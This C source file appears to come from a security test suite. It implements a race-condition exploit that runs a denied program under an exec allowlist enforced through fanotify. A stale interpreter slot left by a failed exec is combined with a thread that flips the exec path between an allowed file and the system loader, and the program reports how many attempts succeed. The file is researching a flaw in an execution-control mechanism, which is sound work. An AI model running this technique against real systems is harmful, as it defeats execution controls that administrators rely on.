/* E169: a stale interpreter slot of the kernel back end, used by another
 * thread of the process to run the system loader as a program:
 *
 *   e170_stale_interp_flip S GOOD LOADER EVIL MARKER SECS [nostale]
 *
 * A child per attempt. Its thread A execs S, an allowed ELF the kernel
 * refuses (ENOEXEC: a foreign e_machine) after the program's fanotify
 * event and before it opens S's PT_INTERP (the system loader): the slot
 * decide_exec filled for S stays, and A stays alive. Then the main
 * thread execs a path a flipper thread rewrites between GOOD (allowed,
 * not executable: EACCES before any fanotify event) and LOADER (denied),
 * with argv {ld, EVIL, MARKER}: when the notification decided GOOD and
 * the kernel opened LOADER, the loader runs EVIL. The parent counts
 * attempts whose child ran EVIL (MARKER grew). Prints
 * "RACE attempts= ok= hits=". */
#define _GNU_SOURCE
#include "esc.h"
#include <pthread.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/wait.h>

static char buf[4096];
static const char *s_path, *good, *bad;
static volatile int flipping, a_done;

static void *flipper(void *a)
{
	(void)a;
	for (;;) {
		strcpy(buf, bad);
		flipping = 1;
		strcpy(buf, good);
	}
	return NULL;
}

static void *stale(void *a)
{
	(void)a;
	char *av[] = { (char *)s_path, NULL };
	execve(s_path, av, (char *[]){ NULL }); /* ENOEXEC */
	a_done = 1;
	for (;;)
		pause();
	return NULL;
}

static long msize(const char *m)
{
	struct stat st;
	return stat(m, &st) == 0 ? (long)st.st_size : 0;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 7, "e170_stale_interp_flip S GOOD LOADER EVIL MARKER SECS [nostale]");
	s_path = argv[1], good = argv[2], bad = argv[3];
	const char *evil = argv[4], *marker = argv[5];
	int no_stale = argc > 7 && strcmp(argv[7], "nostale") == 0;
	double end = esc_now() + atof(argv[6]);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		long before = msize(marker);
		pid_t c = fork();
		if (c == 0) {
			pthread_t t;
			if (!no_stale) {
				pthread_create(&t, NULL, stale, NULL);
				while (!a_done)
					sched_yield();
			}
			strcpy(buf, good);
			pthread_create(&t, NULL, flipper, NULL);
			while (!flipping)
				sched_yield();
			char *av[] = { "ld", (char *)evil, (char *)marker, NULL };
			for (int i = 0; i < 50; i++)
				execve(buf, av, (char *[]){ NULL });
			_exit(127);
		}
		int st;
		waitpid(c, &st, 0);
		attempts++;
		if (WIFEXITED(st) && WEXITSTATUS(st) != 127)
			ok++;
		if (msize(marker) > before)
			hits++;
	}
	printf("RACE attempts=%ld ok=%ld hits=%ld\n", attempts, ok, hits);
	return 0;
}
